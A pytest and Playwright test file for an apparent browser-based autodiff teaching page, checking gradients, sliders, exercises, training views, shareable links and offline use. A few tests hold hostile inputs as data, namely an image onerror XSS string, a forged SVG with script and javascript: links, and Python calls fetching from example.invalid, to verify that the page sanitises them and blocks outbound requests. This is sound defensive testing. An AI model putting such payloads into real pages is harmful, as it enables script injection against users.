"""The page to try autodiff, in Chromium: served on loopback, and as one file. It may ask for nothing else."""

import base64
import json
import sys
import time
from contextlib import contextmanager
from pathlib import Path

import pytest
from helpers.browser import served
from programs import LINE, expected, fragment

from autodiff import Value, training_steps

expect = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install -e '.[browser]'").expect
DOCS = Path(__file__).parents[2] / "docs"
START = 60_000  # milliseconds in which the interpreter starts, on a machine that has other things to do
expect.set_options(timeout=START)
FOLLOW = """(link) => new Promise((go_on) => {
  if (location.hash === link) return go_on();
  addEventListener("hashchange", () => go_on(), { once: true }); // after the page's own, which was there before
  location.hash = link;
})"""
HOLD = """() => {
  const { worker } = python, { onmessage } = worker;
  window.said = [];
  worker.onmessage = (event) => said.push(event);
  window.hearOne = () => onmessage(said.shift());
  window.hearAll = () => {
    worker.onmessage = onmessage;
    said.forEach(onmessage);
  };
}"""
BOTH_SEEN = """() => {
  document.getElementById("tabs").scrollIntoView(); // again, should what is above have changed its height
  const [slider, panel] = ["n-w", "panel"].map((id) => document.getElementById(id).getBoundingClientRect());
  const top = Math.max(panel.top, 0), bottom = Math.min(panel.bottom, slider.top);
  return slider.bottom <= innerHeight && bottom - top > 0.2 * Math.min(panel.height, innerHeight);
}"""
pytestmark = pytest.mark.xdist_group("interpreter")  # which takes seconds to start


@pytest.fixture(scope="module")
def address(folder):
    with served(folder) as address:
        yield address


def watched(context, own):
    """What must not be: an error, a dialog, a request for anything that is not the page's own."""
    troubles = []

    def page_opened(page):
        page.on("pageerror", lambda error: troubles.append(str(error)))
        page.on("dialog", lambda dialog: troubles.append(dialog.message))

    context.on("page", page_opened)
    context.on("request", lambda asked: asked.url.startswith((own, "blob:", "data:")) or troubles.append(asked.url))
    return troubles


@pytest.fixture(scope="module")
def started(chromium, address):
    context = chromium.new_context(viewport={"width": 1200, "height": 900})
    troubles = watched(context, address)
    page = context.new_page()
    page.goto(address)
    seen_at_once = page.locator("#panel g.node").count()
    page.locator("#start.ready").wait_for(timeout=START)
    yield page, troubles, seen_at_once
    context.close()


@pytest.fixture
def page(started):
    """The page that all tests share, as it is when its interpreter has started."""
    page, troubles, _ = started
    page.locator("#start.ready").wait_for(timeout=START)
    yield page
    assert troubles == []


PANEL = """() => [panel, at("told"), at("status"), ...panel.children].map((part) => {
  return `${part.outerHTML.slice(0, 1000)} ${part.shadowRoot?.innerHTML.slice(0, 3000)}`;
}).join("\\n") + JSON.stringify(state)"""


def follow(page, link):
    """Follow a link to another state, and wait until the page has heard of it."""
    page.evaluate(FOLLOW, link)


def settled(page):
    """Wait until the panel shows what the program answers."""
    page.locator("#panel:not(.old) > *").wait_for(timeout=START)


def show(page, text, view="drawing", run=False, **options):
    follow(page, fragment(text="1", view="drawing"))  # so that the link is another one
    follow(page, fragment(text=text, view=view, **options))
    if run:
        page.locator("#run").click()
    settled(page)


@contextmanager
def held(page):
    """In this block the page does not hear what the interpreter says, but one answer at each call of what it gives."""

    def hear_one():
        page.wait_for_function("() => said.length")
        page.evaluate("() => hearOne()")

    page.evaluate(HOLD)
    try:
        yield hear_one
    finally:
        page.evaluate("() => hearAll()")


def gradients(page):
    return sorted(page.locator("#panel text.gradient").all_text_contents())


def has_gradients(page, wanted):
    """Wait until the boxes of the drawing show these gradients."""
    end = time.monotonic() + START / 1000
    while gradients(page) != wanted and time.monotonic() < end:
        page.wait_for_timeout(100)
    assert gradients(page) == wanted


@pytest.fixture(scope="module")
def bench():
    sys.path[:0] = [str(DOCS), str(DOCS / "try")]
    import bench

    return bench


def answer(bench, text, view, **options):
    return json.loads(bench.answer(json.dumps({"text": text, "view": view, "trusted": True, "options": options})))


def test_every_example_shows_every_view(bench):
    examples = json.loads((DOCS / "try" / "examples.json").read_text("utf-8"))
    for example in examples:
        for view in bench.VIEWS:
            assert answer(bench, example["text"], view, **example["options"]).get("shown"), (example["title"], view)


def test_in_a_drag_the_numbers_are_those_of_the_whole_answer(bench):
    text = "w = 3\nx = 2\nb = 1\ny = tanh(w * x + b)\nL = (y - 5) ** 2 + w ** 2"
    full, drag = [
        {view: answer(bench, text, view, on=["w", "b"], rate=0.01, **options)["shown"] for view in bench.VIEWS}
        for options in ({}, {"drag": True})
    ]
    for id_, texts in drag["drawing"]["numbers"].items():
        assert all(f">{shown}</text>" in full["drawing"]["svg"] for shown in filter(None, texts)), id_
    assert drag["steps"].keys() == {"story"}
    assert drag["steps"]["story"] | {"views": []} == full["steps"]["story"] | {"views": []}
    assert drag["derivation"] == full["derivation"]
    sheet = full["exercise"]["sheet"]
    assert sheet["given"] == ", ".join([f"{name} = {drag['exercise']['given'][name]}" for name, _ in sheet["givens"]])
    assert drag["training"]["rows"] == full["training"]["rows"]
    points = [
        shown["surface"].partition('class="walk" points="')[2].partition('"')[0]
        for shown in (drag["training"], full["training"])
    ]
    assert points[0] == points[1] != ""


def test_an_exercise_of_too_much_is_about_one_number(bench):
    text = "a = 1\nb = 2\nc = 3\ny = a\nfor _ in [1] * 12:\n    y = y * b\nL = y + c"
    shown = answer(bench, text, "exercise")["shown"]
    assert shown["choices"] == ["", "a", "b", "c"]
    assert shown["about"] == "a"
    asked = [question["name"] for question in shown["sheet"]["questions"]]
    assert "dL/da" in asked
    assert "dL/db" not in asked
    assert [q["name"] for q in answer(bench, text, "exercise", about="c")["shown"]["sheet"]["questions"]] == [
        "L",
        "dL/dL",
        "dL/dc",
    ]
    assert "about=" in answer(bench, text, "exercise", about="b")["error"]["words"]


def test_a_number_too_large_to_drag_is_differentiated_all_the_same(bench):
    found = answer(bench, "x = 1e13\nw = 2\nL = w * x", "derivation")
    assert [number["name"] for number in found["numbers"]] == ["w"]
    assert found["value"] == "2e+13"
    assert found["shown"]["choices"] == ["w", "x"]


def test_where_a_sum_begins_is_no_number_to_drag(bench):
    found = answer(bench, "w = 0\nL = 0\nfor x in [1, 2]:\n    L = L + w * x\nL", "derivation")
    assert [number["name"] for number in found["numbers"]] == ["w"]
    assert found["shown"]["lines"][0][0] == "dL/dw"


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("x = 3\nL = x ^ 2", "x ** 2"),
        ("x = 3\nL = 2x", "2 * x"),
        ("x = 3,5\nL = x * 2", "3.5"),
        ("import nothing_of_that_name", "Python's own modules and autodiff"),
        ("  \n# only a comment", "Nothing is written yet"),
    ],
)
def test_what_is_written_as_in_mathematics_gets_a_hint(bench, text, hint):
    assert hint in answer(bench, text, "drawing")["error"]["words"]


def test_of_what_is_printed_the_beginning_is_kept_and_the_lines_of_the_rest_are_counted(bench):
    text = "w = 2\nfor i in range(LINES):\n    print(i)\nL = w * w"
    found = {lines: answer(bench, text.replace("LINES", str(lines)), "training")["printed"] for lines in (3, 30_000)}
    assert found[3] == "0\n1\n2\n"  # once, and not at each step
    whole = "".join([f"{i}\n" for i in range(30_000)])
    kept, _, more = found[30_000].rpartition("\n... and ")
    assert len(kept) == bench.MAX_PRINTED
    assert whole.startswith(kept)
    assert more == f"{whole[len(kept) :].count(chr(10)):,} lines more"
    for code, end in [("print('x' * 20_001)", "x\n... and more"), ("print('x\\n' * 20_000)", "and 10,001 lines more")]:
        cell = json.loads(bench.cell(json.dumps({"lesson": "x", "code": code})))
        assert cell["printed"].endswith(end)


def test_something_is_seen_before_the_interpreter_is_there(started):
    assert started[2] > 0


def test_a_drawing_has_the_gradients_of_the_engine_also_after_a_drag(page):
    show(page, LINE)
    has_gradients(page, expected())
    page.locator("#n-w").focus()
    page.keyboard.press("ArrowRight")
    moved = float(page.locator("#n-w").input_value())
    assert moved > 3
    expect(page.locator("#text")).to_have_value(LINE.replace("w = 3", f"w = {moved:g}"))
    expect(page.locator("#value")).to_have_text(f"= {(moved * 2 + 1 - 5) ** 2:.6g}")
    settled(page)
    has_gradients(page, expected(w=moved))


def test_names_without_a_number_get_one(page):
    show(page, "tanh(w*x + b)")
    expect(page.locator("#text")).to_have_value("w = 1\nx = 1\nb = 1\ntanh(w*x + b)")
    expect(page.locator(".slider label")).to_have_text(["w", "x", "b"])


def test_the_stepper_stays_where_it_is_while_one_drags(page):
    show(page, LINE, "steps")
    page.locator("#panel .buttons button", has_text="Last").click()
    expect(page.locator("#panel .count")).to_have_text("8 / 8 backward")
    page.locator("#n-x").focus()
    page.keyboard.press("ArrowLeft")
    settled(page)
    expect(page.locator("#panel .count")).to_have_text("8 / 8 backward")
    moved = float(page.locator("#n-x").input_value())
    expect(
        page.locator("#panel text.gradient", has_text=f"grad {2 * (3 * moved + 1 - 5) * moved:g}").first
    ).to_be_visible()


def test_a_derivation_is_of_the_number_that_is_chosen(page):
    show(page, LINE, "derivation")
    page.locator("#wrt").select_option("x")
    settled(page)
    rows = page.locator("#panel dd")
    expect(rows.first).to_have_text("(dL/dy)(dy/dx)")
    expect(rows.last).to_have_text("12")


def test_an_exercise_names_the_mistake_and_knows_what_is_right(page):
    show(page, "w = 3\nx = 4\nL = w * x", "exercise")
    page.locator("#panel .overview button", has_text="dL/dw").click()
    page.locator("#panel #answer").fill("3")
    page.keyboard.press("Enter")
    expect(page.locator("#panel .verdict")).to_contain_text("factors of a product swapped")
    page.locator("#panel #answer").fill("4")
    page.keyboard.press("Enter")
    expect(page.locator("#panel .verdict.right")).to_be_visible()


def test_in_a_drag_an_exercise_has_the_new_givens_and_asks_about_one_number_if_that_is_chosen(page):
    show(page, "w = 3\nx = 4\nL = w * x + w", "exercise")
    page.locator("#n-x").focus()
    page.keyboard.press("ArrowRight")
    moved = float(page.locator("#n-x").input_value())
    expect(page.locator("#panel .givens code")).to_have_text(f"w = 3, x = {moved:g}")
    expect(page.locator("#panel text.data", has_text=f"{moved:g}")).to_be_visible()
    page.locator("#about").select_option("x")
    expect(page.locator("#panel .overview li code")).to_have_text(["v1", "L", "dL/dL", "dL/dv1", "dv1/dx", "dL/dx"])


def test_in_a_drag_another_graph_is_drawn_anew(page):
    show(page, "x = 2\nif x > 2:\n    y = x * x\nelse:\n    y = -x\ny + 1", "steps", run=True)
    expect(page.locator("#panel .count")).to_have_text("0 / 4 start")
    page.locator("#n-x").focus()
    page.keyboard.press("ArrowRight")
    expect(page.locator("#panel g.node text.sign", has_text="*")).to_be_visible()


def test_a_training_walks_as_the_package_does(page):
    text = "w1 = 1.5\nw2 = 1\nx = 4\nt = 1\nh = w1 * x\ny = w2 * h\nL = (y - t) ** 2"
    show(page, text, "training", on=["w1", "w2"], rate=0.001, steps=30)
    w1, w2 = Value(1.5, "w1"), Value(1.0, "w2")
    told = training_steps(lambda: (w2 * (w1 * 4.0) - 1.0) ** 2, [w1, w2], lr=0.001, steps=30)
    shown = page.locator("#panel .readout dd")
    expect(page.locator("#panel circle.walk")).to_have_count(31)
    expect(shown.first).to_have_text("30")
    page.locator("#panel .going button").click()
    expect(shown.first).not_to_have_text("30")
    expect(shown.first).to_have_text("30")  # it has arrived
    expect(shown.nth(1)).to_have_text(f"{told.rounds[-1].numbers[0]:.6g}")
    page.locator("#panel details.detail summary").click()
    expect(page.locator("#panel .rounds tbody tr")).to_have_count(len(told.stories))


def test_errors_are_told_in_pythons_words_with_the_line(page):
    for text, line, words in [
        ("w = 2\nL = w * z.data", "Line 2", "NameError: name 'z' is not defined"),
        ("w = 2\nL = (w", "Line 2", "SyntaxError: '(' was never closed"),
        ("x = 0\nL = 1 / x", "Line 2", "ZeroDivisionError"),
        ("print('only this')", "", "No Value came out"),
    ]:
        follow(page, fragment(text=text, view="drawing"))
        expect(page.locator("#text")).to_have_value(text)
        page.locator("#run").click()
        expect(page.locator("#told.error")).to_contain_text(words)
        expect(page.locator("#told.error")).to_contain_text(line)


def test_a_link_holds_the_whole_state(page):
    show(page, LINE, "derivation", wrt="b")
    page.wait_for_function("link => location.hash !== link", arg=fragment(text=LINE, view="derivation", wrt="b"))
    link = page.evaluate("() => location.hash")
    show(page, "x = 1\nL = x * x")
    follow(page, link)
    expect(page.locator("#text")).to_have_value(LINE)
    settled(page)
    expect(page.locator("#wrt")).to_have_value("b")


def test_a_link_is_followed_though_the_address_of_before_is_written_meanwhile(page):
    show(page, LINE)
    link = fragment(text="x = 3\nL = x * x", view="drawing")
    page.evaluate("link => { location.hash = link; history.replaceState(null, '', '#') }", link)  # before it is heard
    expect(page.locator("#text")).to_have_value("x = 3\nL = x * x")
    settled(page)


def test_a_program_from_a_link_runs_when_the_learner_says_so(page):
    text = "print('it ran')\nx = 2\nfor _ in [1]:\n    L = x * x"
    follow(page, fragment(text=text, view="drawing"))
    expect(page.locator("#told")).to_contain_text("press Run")
    assert page.locator("#printed").is_hidden()
    page.locator("#run").click()
    expect(page.locator("#printed pre")).to_have_text("it ran\n")


@pytest.mark.parametrize(
    "link",
    [
        "#s=" + "A" * 30_000,
        "#s=%%%",
        fragment(text=["L = 1"]),
        fragment(text="x = 1\n" * 5_000),
        "#s=" + base64.urlsafe_b64encode(b"\xff\xfe").decode(),
    ],
    ids=["long", "no base64", "no text", "a long program", "no UTF-8"],
)
def test_a_link_that_is_none_is_told(page, link):
    show(page, LINE)
    follow(page, link)
    expect(page.locator("#told")).to_contain_text("could not be read")
    expect(page.locator("#text")).to_have_value(LINE)


def test_what_is_typed_reaches_nothing_but_the_interpreter(page):
    show(page, 'x = Value(2.0, "<img src=x onerror=alert(1)>")\nL = x * x', run=True)
    hostile = page.locator("#panel text.name", has_text="<img src=x onerror=alert(1)>")
    expect(hostile.first).to_be_visible()
    asking = "import js\nx = 2\njs.fetch('https://example.invalid/?' + 'told')\njs.importScripts('https://example.invalid/x.js')"
    show(page, asking)
    page.locator("#run").click()
    expect(page.locator("#told.error")).to_contain_text("Line 4")  # refused by the policy, and nothing was asked for


def test_a_program_that_forges_its_picture_puts_nothing_live_into_the_page(page):
    forged = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(2)</script>'
        '<style>* { display: none }</style><image href="https://example.invalid/a.png"/><foreignObject><p>x</p>'
        '</foreignObject><a href="javascript:alert(3)"><text class="forged" onclick="alert(4)">x</text></a></svg>'
    )
    text = f"import bench\nbench.VIEWS['drawing'] = lambda *_: {{'svg': {forged!r}}}\nx = 1\nL = x * x"
    show(page, text, run=True)
    page.locator("#panel text.forged").wait_for()
    live = "script, style, image, foreignObject, [onload], [onclick], [href]"
    assert page.locator("#panel svg").locator(live).count() == 0
    page.locator("#panel text.forged").dispatch_event("click")


def test_what_never_ends_is_stopped_and_the_next_program_runs(page):
    show(page, "x = 1\nwhile True:\n    x = x * 1")
    page.locator("#run").click()
    page.locator("#stop").click()
    expect(page.locator("#told")).to_contain_text("Stopped")
    page.locator("#start.ready").wait_for(timeout=START)
    show(page, LINE)
    has_gradients(page, expected())


def test_what_waits_while_the_interpreter_breaks_down_is_answered_by_the_next_one(page):
    show(page, "x = 1\nL = x * x")
    page.locator("#text").fill("import bench\nbench.json = None\nx = 1\nL = x * x")
    with held(page):
        page.locator("#run").click()
        follow(page, fragment(text=LINE, view="drawing"))
    page.locator("#start:not(.ready)").wait_for(timeout=START)
    settled(page)
    has_gradients(page, expected())


@pytest.mark.parametrize("view", ["drawing", "steps", "derivation", "exercise", "training"])
def test_a_part_that_comes_when_its_view_was_emptied_is_not_shown(page, view):
    show(page, LINE, view)
    with held(page) as hear_one:
        page.locator("#n-x").focus()
        page.keyboard.press("ArrowRight")
        page.locator(f"#tab-{view}").click()
        hear_one()
        assert page.locator("#panel > *").count() == 0
        expect(page.locator("#panel")).to_have_class("panel old")
    settled(page)
    expect(page.locator(f"#panel > [data-kind={view}]")).to_have_count(1)


def test_a_drag_goes_on_from_the_text_that_stands_there_when_an_earlier_answer_comes(page):
    show(page, LINE.replace("w = 3", "w = 3.9"))
    with held(page) as hear_one:
        page.locator("#n-w").focus()
        page.keyboard.press("ArrowRight")
        page.keyboard.press("ArrowRight")
        expect(page.locator("#text")).to_have_value(LINE.replace("w = 3", "w = 4.1"))
        hear_one()  # of w = 4, which is shorter
        page.keyboard.press("ArrowRight")
        expect(page.locator("#text")).to_have_value(LINE.replace("w = 3", "w = 4.2"))
    settled(page)
    has_gradients(page, expected(w=4.2))


def test_a_slider_of_the_program_before_writes_nothing_into_the_next_one(page):
    show(page, LINE)
    page.locator("#n-w").focus()
    with held(page):
        follow(page, fragment(text="x = 1\nw = 25\nL = w * x", view="drawing"))
        page.keyboard.press("ArrowRight")
        expect(page.locator("#text")).to_have_value("x = 1\nw = 25\nL = w * x")
    settled(page)
    expect(page.locator("#value")).to_have_text("= 25")


def test_an_answer_that_cannot_be_shown_is_told_and_leaves_the_panel_marked_as_old(page):
    show(page, LINE)
    page.evaluate("() => addEventListener('unhandledrejection', (event) => event.preventDefault(), { once: true })")
    page.evaluate("() => { SHOW.kept = SHOW.drawing; SHOW.drawing = () => { throw new Error('no such thing'); }; }")
    page.locator("#run").click()
    expect(page.locator("#told.error")).to_contain_text("could not show it (no such thing)")
    expect(page.locator("#panel")).to_have_class("panel old")
    page.evaluate("() => { SHOW.drawing = SHOW.kept; }")


def test_what_was_typed_and_not_run_leaves_the_panel_marked_as_old(page):
    show(page, LINE)
    page.locator("#text").fill("print('it ran')\nx = 2\nL = x * x")
    expect(page.locator("#told")).to_contain_text("Press Run")
    expect(page.locator("#panel")).to_have_class("panel old")
    page.locator("#tab-steps").click()
    expect(page.locator("#panel")).to_have_text("Not run yet.")


def test_a_lesson_runs_with_what_comes_before(page):
    follow(page, "#lesson=03")
    expect(page.locator("#lesson h1")).to_contain_text("chain rule")
    cells = page.locator(".cell")
    cells.nth(2).get_by_role("button", name="Run").click()  # it needs the names of the first
    expect(cells.nth(2).locator(".out")).to_contain_text("s = x + y  moves with x and y as (1.0, 1.0)")
    expect(cells.nth(1).locator("g.node").first).to_be_visible()
    follow(page, "#try")


def test_a_phone_shows_it_without_scrolling_sideways_and_a_keyboard_does_all(page):
    show(page, LINE)
    page.set_viewport_size({"width": 360, "height": 740})
    for view in ("drawing", "steps", "derivation", "exercise", "training"):
        page.locator(f"#tab-{view}").click()
        settled(page)
        page.wait_for_function("() => document.documentElement.scrollWidth === 360")
        page.wait_for_function(BOTH_SEEN)  # while one drags, what changes is seen
    page.set_viewport_size({"width": 1200, "height": 900})
    page.locator("#text").focus()
    page.keyboard.press("Control+A")
    page.keyboard.insert_text("a = 4\nL = a * a")
    page.keyboard.press("Control+Enter")
    expect(page.locator("#value")).to_have_text("= 16")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    expect(page.locator("#n-a")).to_be_focused()
    page.keyboard.press("ArrowRight")
    expect(page.locator("#value")).not_to_have_text("= 16")
    page.locator("#tab-training").focus()
    page.keyboard.press("ArrowRight")
    expect(page.locator("#tab-drawing")).to_be_focused()
    settled(page)
    try:
        expect(page.locator("#panel g.node")).to_have_count(2)
    except AssertionError as error:  # seen twice, with none, and only beside other work
        raise AssertionError(f"{error}\nthe panel holds {page.evaluate(PANEL)}") from None


def test_it_opens_again_without_a_network(page):
    page.wait_for_function("() => navigator.serviceWorker.ready.then((found) => found.active.state === 'activated')")
    page.context.set_offline(True)
    show(page, LINE)
    page.reload()
    expect(page.locator("#text")).to_have_value(LINE)
    page.locator("#start.ready").wait_for(timeout=START)
    settled(page)
    has_gradients(page, expected())
    page.context.set_offline(False)


def test_one_file_holds_it_all(chromium, one_file):
    assert one_file.stat().st_size < 20e6
    context = chromium.new_context()
    troubles = watched(context, one_file.as_uri())
    page = context.new_page()
    page.goto(one_file.as_uri() + fragment(text=LINE, view="exercise"))
    page.locator("#start.ready").wait_for(timeout=START)
    page.locator("#panel .overview button").first.wait_for()
    page.locator("#tab-drawing").click()
    settled(page)
    has_gradients(page, expected())
    context.close()
    assert troubles == []
